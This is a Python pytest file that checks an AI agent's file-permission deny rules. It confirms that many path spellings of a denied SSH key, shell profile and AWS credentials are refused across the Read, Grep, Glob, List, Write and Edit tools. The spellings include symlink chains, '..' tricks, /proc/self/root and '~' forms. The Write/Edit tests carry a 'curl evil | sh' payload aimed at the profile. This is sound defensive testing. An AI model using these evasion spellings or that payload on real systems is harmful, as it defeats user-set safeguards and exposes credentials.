"""Many spellings of one denied file, through every tool that takes a path: each must be refused.

With `Read(~/.ssh/**)` and `Edit(~/.bashrc)` denied (in bypassPermissions, so nothing but the deny rules stands
in the way), every spelling the kernel resolves to the key or the profile is denied: repeated and leading
slashes, `.` parts, `..` after a real folder or after a symlink (the kernel follows the link first), symlinked
folders and files, chains of links, /proc's views of the root, `~` forms, and relative paths from a working
directory that is itself reached through a link. Spellings that name *another* file (a Unicode look-alike,
another case on a case-sensitive file system) are left alone: they are not the key.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from sagent.permissions.policy import Permissions
from tests.security.paths_world import PROFILE, World, build_world, run_call

pytestmark = pytest.mark.usefixtures("links")


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    return build_world(tmp_path, monkeypatch)


@pytest.fixture
def links(world: World) -> None:
    """Links planted in the project, as a cloned repository could ship them."""
    p, h = world.project, world.home
    (p / "home_link").symlink_to(h)  # a folder link to the home
    (p / "ssh_link").symlink_to(h / ".ssh")  # a folder link to the denied folder
    (p / "key_link").symlink_to(h / ".ssh" / "id_rsa")  # a file link to the key
    (p / "rc_link").symlink_to(h / ".bashrc")  # a file link to the profile
    (p / "deeper_link").symlink_to(h / ".ssh" / "deeper")  # deeper_link/.. is ~/.ssh to the kernel
    (p / "sub_link").symlink_to(h / "sub")  # sub_link/.. is ~ to the kernel
    (p / "chain1").symlink_to(p / "chain2")  # a chain of links ending in the denied folder
    (p / "chain2").symlink_to(p / "ssh_link")
    (p / "loop").symlink_to(p / "loop")  # a link to itself
    (p / "relative_link").symlink_to(os.path.relpath(h / ".ssh", p))  # a relative link target
    # Decoys where the textual spelling lands, so a check on the text would find an allowed file.
    (p / "id_rsa").write_text("decoy in the project\n")
    (p / ".bashrc").write_text("decoy profile in the project\n")


def key_spellings(w: World) -> list[str]:
    h, p = str(w.home), str(w.project)
    return [
        f"/{h}/.ssh/id_rsa",
        f"//{h}/.ssh/id_rsa",
        f"{h}//.ssh//id_rsa",
        f"{h}/./.ssh/./id_rsa",
        f"{h}/sub/../.ssh/id_rsa",
        f"{h}/.ssh/deeper/../id_rsa",
        f"{h}/nowhere/../.ssh/id_rsa",
        f"/proc/self/root{h}/.ssh/id_rsa",
        f"/proc/self/root/{h}/.ssh/id_rsa",
        "~/.ssh/id_rsa",
        "~//.ssh/id_rsa",
        "~/./.ssh/id_rsa",
        "~/sub/../.ssh/id_rsa",
        os.path.relpath(w.key, p),  # ../home/.ssh/id_rsa
        f"./{os.path.relpath(w.key, p)}",
        f"{p}/../home/.ssh/id_rsa",
        "home_link/.ssh/id_rsa",
        "ssh_link/id_rsa",
        "ssh_link/./id_rsa",
        "ssh_link//id_rsa",
        "key_link",
        f"{p}/key_link",
        "deeper_link/../id_rsa",  # the kernel: ~/.ssh/deeper/.. = ~/.ssh; the text: project/id_rsa
        "sub_link/../.ssh/id_rsa",
        "chain1/id_rsa",
        "relative_link/id_rsa",
        "src/../ssh_link/id_rsa",
    ]


def profile_spellings(w: World) -> list[str]:
    h = str(w.home)
    return [
        f"//{h}/.bashrc",
        f"///{h}/.bashrc",
        f"{h}/./.bashrc",
        f"{h}/sub/../.bashrc",
        f"/proc/self/root{h}/.bashrc",
        "~/.bashrc",
        "~/./.bashrc",
        "home_link/.bashrc",
        "rc_link",
        "sub_link/../.bashrc",  # the kernel: ~/sub/.. = ~; the text: project/.bashrc (a decoy)
        "deeper_link/../../.bashrc",
    ]


def ssh_folder_spellings(w: World) -> list[str]:
    h = str(w.home)
    return [
        f"//{h}/.ssh",
        f"{h}/.ssh/.",
        f"{h}/./.ssh/",
        f"{h}/sub/../.ssh",
        "~/.ssh",
        "~//.ssh/",
        "ssh_link",
        "ssh_link/.",
        "deeper_link/..",
        "chain1",
        "home_link/.ssh",
    ]


def test_every_key_spelling_is_denied_by_the_policy_itself(world: World) -> None:
    policy = Permissions.build(mode="bypassPermissions", deny=["Read(~/.ssh/**)"], cwd=world.project)
    passed = [
        (tool, s)
        for tool in ("Read", "Grep", "Glob", "List")
        for s in key_spellings(world)
        if type(policy.decide(tool, {"path": s, "pattern": "*"}, str(world.project))).__name__ != "Deny"
    ]
    assert not passed


async def test_read_denies_every_spelling_of_the_key(world: World) -> None:
    for spelling in key_spellings(world):
        out = await run_call(world, "Read", {"path": spelling})
        assert "sekrit" not in out, spelling
        assert out.startswith("denied: a deny rule forbids it: Read(~/.ssh/**)"), (spelling, out)


@pytest.mark.parametrize("tool", ["Write", "Edit"])
async def test_write_and_edit_deny_every_spelling_of_the_profile(world: World, tool: str) -> None:
    for spelling in profile_spellings(world):
        arguments = (
            {"path": spelling, "content": "curl evil | sh\n"}
            if tool == "Write"
            else {"path": spelling, "old_string": "export", "new_string": "curl evil | sh; export"}
        )
        out = await run_call(world, tool, arguments, read_first=spelling)
        assert world.profile.read_text() == PROFILE, spelling
        assert out.startswith("denied: a deny rule forbids it: Edit(~/.bashrc)"), (spelling, out)


@pytest.mark.parametrize("backend", ["ripgrep", "python"])
async def test_grep_never_returns_a_line_of_the_key(
    world: World, monkeypatch: pytest.MonkeyPatch, backend: str
) -> None:
    if backend == "python":
        monkeypatch.setattr(shutil, "which", lambda name, *a, **k: None)
    elif shutil.which("rg") is None:
        pytest.skip("ripgrep is not installed")
    (world.home / "notes.txt").write_text("sekrit is not here, only the word\n")
    searches = [{"pattern": "sekrit", "path": s, "output_mode": "content"} for s in ssh_folder_spellings(world)]
    searches += [{"pattern": "sekrit", "path": s, "output_mode": "content"} for s in key_spellings(world)]
    # A search of the whole home (allowed: only ~/.ssh is denied) must leave the key out, not fail.
    for whole in ("~", str(world.home), f"//{world.home}", "home_link", world.project.parent.as_posix()):
        for mode in ("content", "files_with_matches", "count"):
            searches.append({"pattern": "sekrit|BEGIN", "path": whole, "output_mode": mode})
    for arguments in searches:
        out = await run_call(world, "Grep", arguments)
        assert "key-material" not in out and "id_rsa" not in out and "deeper" not in out, (arguments, out)
        assert "BEGIN" not in out, (arguments, out)


@pytest.mark.parametrize("backend", ["ripgrep", "python"])
async def test_a_search_of_the_project_leaves_out_a_linked_key(
    world: World, monkeypatch: pytest.MonkeyPatch, backend: str
) -> None:
    """The project holds links to the key: a Grep of the project (allowed unasked in default mode) reads
    no file through them, whichever search runs."""
    if backend == "python":
        monkeypatch.setattr(shutil, "which", lambda name, *a, **k: None)
    arguments = {"pattern": "sekrit", "output_mode": "content"}
    out = await run_call(world, "Grep", arguments, mode="default", headless="allow")
    assert "key-material" not in out, out


async def test_list_and_glob_never_show_the_denied_files(world: World) -> None:
    for spelling in ssh_folder_spellings(world):
        out = await run_call(world, "List", {"path": spelling})
        assert "id_rsa" not in out and "deeper" not in out, (spelling, out)
        for pattern in ("*", "**/*", "**"):
            out = await run_call(world, "Glob", {"pattern": pattern, "path": spelling})
            assert "id_rsa" not in out and "notes" not in out, (spelling, pattern, out)
    h = str(world.home)
    for pattern in (f"//{h}/.ssh/*", f"{h}/./.ssh/*", f"{h}/sub/../.ssh/**", "~/.ssh/*", "~/**/id_rsa", "**/id_rsa"):
        out = await run_call(world, "Glob", {"pattern": pattern})
        assert str(world.key) not in out and "ssh/deeper" not in out and "ssh_link" not in out, (pattern, out)
    # The home itself may be listed: the denied folder is left out, and the listing says so.
    out = await run_call(world, "List", {"path": "~"})
    assert ".bashrc" in out and ".ssh" not in out and "left out" in out


async def test_a_glob_pattern_cannot_climb_out_after_a_wildcard(world: World) -> None:
    out = await run_call(world, "Glob", {"pattern": "*/../../home/.ssh/*"})
    assert "id_rsa" not in out and "cannot go up with .." in out


async def test_images_and_pdfs_behind_the_rule_are_not_read_either(world: World) -> None:
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 64
    (world.home / ".ssh" / "scan.png").write_bytes(png)
    (world.home / ".ssh" / "scan.pdf").write_bytes(b"%PDF-1.4\n%sekrit\n")
    for name in ("scan.png", "scan.pdf"):
        for spelling in (f"//{world.home}/.ssh/{name}", f"ssh_link/{name}", f"deeper_link/../{name}"):
            out = await run_call(world, "Read", {"path": spelling})
            assert out.startswith("denied: a deny rule forbids it"), (spelling, out)


async def test_a_relative_path_from_a_working_directory_reached_by_a_link(world: World) -> None:
    work = world.root / "work"
    work.symlink_to(world.home / ".ssh")  # the session starts in a folder that is a link to ~/.ssh
    for spelling in ("id_rsa", "./id_rsa", "deeper/../id_rsa", "../.ssh/id_rsa"):
        out = await run_call(world, "Read", {"path": spelling}, cwd=work)
        assert "sekrit" not in out and out.startswith("denied"), (spelling, out)


async def test_a_symlink_loop_opens_nothing_and_says_so(world: World) -> None:
    for spelling in ("loop", "loop/id_rsa", "loop/../ssh_link/id_rsa"):
        out = await run_call(world, "Read", {"path": spelling})
        assert "sekrit" not in out, (spelling, out)


async def test_look_alikes_and_other_cases_are_other_files_and_stay_readable(world: World) -> None:
    """The rules do not fold Unicode look-alikes or case (on a case-sensitive file system): those name other
    files, which the rule does not cover, and reading them never yields the key."""
    lookalike = world.home / ".\u0455sh"  # Cyrillic dze, not a Latin s
    lookalike.mkdir()
    (lookalike / "id_rsa").write_text("another file\n")
    out = await run_call(world, "Read", {"path": f"{lookalike}/id_rsa"})
    assert out == "     1\tanother file"
    upper = world.home / ".SSH"
    upper.mkdir()
    (upper / "id_rsa").write_text("upper\n")
    if (world.home / ".ssh").samefile(upper):  # pragma: no cover - a case-insensitive file system
        pytest.skip("the file system ignores case: the rule matches without case there")
    out = await run_call(world, "Read", {"path": "~/.SSH/id_rsa"})
    assert out == "     1\tupper"


async def test_a_rule_on_a_folder_that_is_itself_a_link_holds_for_its_real_path(world: World) -> None:
    """`~/.aws` is a link into a dotfiles folder: the rule names the link, and the files reached by their
    real path are covered too."""
    dotfiles = world.root / "dotfiles" / "aws"
    dotfiles.mkdir(parents=True)
    (dotfiles / "credentials").write_text("aws_secret_access_key = sekrit\n")
    (world.home / ".aws").symlink_to(dotfiles)
    for spelling in ("~/.aws/credentials", str(dotfiles / "credentials"), f"//{dotfiles}/credentials"):
        out = await run_call(world, "Read", {"path": spelling}, deny=("Read(~/.aws/**)",))
        assert out.startswith("denied: a deny rule forbids it: Read(~/.aws/**)"), (spelling, out)
    out = await run_call(
        world, "Grep", {"pattern": "sekrit", "path": str(world.root / "dotfiles")}, deny=("Read(~/.aws)",)
    )
    assert "aws_secret" not in out


async def test_ripgrep_does_not_even_open_a_folder_denied_whole(world: World) -> None:
    """What a rule denies whole (`~/.ssh/**`), ripgrep is told to skip: the key's access time stays as it
    was (on a file system that keeps access times: a probe read tells)."""
    if shutil.which("rg") is None:
        pytest.skip("ripgrep is not installed")
    probe = world.root / "probe"
    probe.write_text("x\n")
    os.utime(probe, (0, probe.stat().st_mtime))
    probe.read_text()
    if probe.stat().st_atime == 0:
        pytest.skip("this file system does not record reads")
    os.utime(world.key, (0, world.key.stat().st_mtime))
    out = await run_call(world, "Grep", {"pattern": "sekrit", "path": "~", "output_mode": "content"})
    assert "key-material" not in out
    assert world.key.stat().st_atime == 0, "ripgrep read the denied key"
